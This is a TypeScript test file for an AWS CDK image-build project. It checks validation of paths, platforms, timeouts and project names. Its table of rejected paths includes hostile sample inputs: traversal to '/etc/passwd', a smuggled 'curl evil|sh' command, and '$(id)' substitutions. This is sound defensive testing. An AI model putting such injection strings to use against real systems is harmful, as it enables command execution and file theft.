import { CfnParameter, Duration } from 'aws-cdk-lib';
import { Platform } from 'aws-cdk-lib/aws-ecr-assets';
import { type ImageBuildProjectProps } from '../../lib/build/image-build-project';
import { newStack, onlyProperties } from '../synthesis';
import { addProject, projectType } from './build-project';

const adding = (props: Partial<ImageBuildProjectProps>) => () => addProject(newStack(), props);

const badPaths: [string, string, string][] = [
  ['is empty', '', 'got an empty text'],
  ['is absolute', '/etc/passwd', "got '/etc/passwd'. Write it relative to the source"],
  ['leaves the source', '../other', "got '../other'. The path must not leave the source with '..'"],
  ['leaves the source further on', 'a/../../b', "got 'a/../../b'. The path must not leave the source with '..'"],
  ['is the folder above', '..', "got '..'. The path must not leave the source with '..'"],
  ['is an option', '--build-arg', "got '--build-arg'. Use only letters, digits and './_@+- '"],
  ['is standard input', '-', "got '-'. Use only letters, digits and './_@+- '"],
  ['is an address', 'https://evil.io/x', "got 'https://evil.io/x'. Use only letters, digits and './_@+- '"],
  ['holds a command', 'x; curl evil|sh', "got 'x; curl evil|sh'. Use only letters, digits and './_@+- '"],
  ['holds a substitution', '$(id)', "got '$(id)'. Use only letters, digits and './_@+- '"],
  ['holds a backtick', 'a`id`', "got 'a`id`'. Use only letters, digits and './_@+- '"],
  ['holds a quote', 'a"b', "got 'a\"b'. Use only letters, digits and './_@+- '"],
  ['holds a newline', 'a\nb', "got 'a\\nb'. The character U+000A at index 1 is not ASCII"],
  ['has white space around it', 'app ', "got 'app '. Remove the white space around it"],
];

describe.each(['dockerfile', 'context'] as const)('B16: %s', (path) => {
  test.each(badPaths)('fails when it %s', (_, value, problem) => {
    expect(adding({ [path]: value })).toThrow(new Error(`\`${path}\` must be a path within the source, ${problem}`));
  });
});

const platform = 'must be one of linux/amd64 and linux/arm64, got';

test.each<[string, Platform[], string]>([
  ['are none', [], '`platforms` must list at least one value, got an empty list'],
  [
    'name one twice',
    [Platform.LINUX_AMD64, Platform.LINUX_AMD64],
    '`platforms[1]` must be named once, got linux/amd64 again',
  ],
  ['are of Windows', [Platform.custom('windows/amd64')], `\`platforms[0]\` ${platform} 'windows/amd64'`],
  [
    'have an unknown one among them',
    [Platform.LINUX_ARM64, Platform.custom('linux/arm/v7')],
    `\`platforms[1]\` ${platform} 'linux/arm/v7'`,
  ],
])('fails when the platforms %s', (_, platforms, message) => {
  expect(adding({ platforms })).toThrow(new Error(message));
});

test.each<[string, Duration, string]>([
  ['is below 5 minutes', Duration.seconds(299), 'PT4M59S'],
  ['is above 36 hours', Duration.minutes(2161), 'P1DT12H1M'],
  ['is no whole minutes', Duration.seconds(301), 'PT5M1S'],
  ['is none', Duration.minutes(0), 'PT0S'],
])('fails when the timeout %s', (_, timeout, shown) => {
  expect(adding({ timeout })).toThrow(
    new Error(`\`timeout\` must be whole minutes from 5 minutes to 36 hours, got ${shown}`),
  );
});

test('accepts a timeout that is a token', () => {
  const stack = newStack();
  addProject(stack, {
    timeout: Duration.minutes(new CfnParameter(stack, 'Minutes', { type: 'Number' }).valueAsNumber),
  });
  expect(onlyProperties(stack, projectType).TimeoutInMinutes).toEqual({ Ref: 'Minutes' });
});

const nameForm = "Use 2 to 150 letters, digits, '-' and '_'";

test.each<[string, string, string]>([
  ['is empty', '', 'got an empty text'],
  ['is one letter', 'a', `got 'a'. ${nameForm}`],
  ['is too long', 'a'.repeat(151), `got '${'a'.repeat(80)}...'. ${nameForm}`],
  ['starts with a hyphen', '-app', `got '-app'. ${nameForm}`],
  ['has a slash', 'team/app', `got 'team/app'. ${nameForm}`],
  ['has a wildcard', 'app*', `got 'app*'. ${nameForm}`],
])('fails when the project name %s', (_, projectName, problem) => {
  expect(adding({ projectName })).toThrow(new Error(`\`projectName\` must be a CodeBuild project name, ${problem}`));
});

test('accepts a project name that is a token', () => {
  const stack = newStack();
  addProject(stack, { projectName: new CfnParameter(stack, 'Name').valueAsString });
  expect(onlyProperties(stack, projectType).Name).toEqual({ Ref: 'Name' });
});
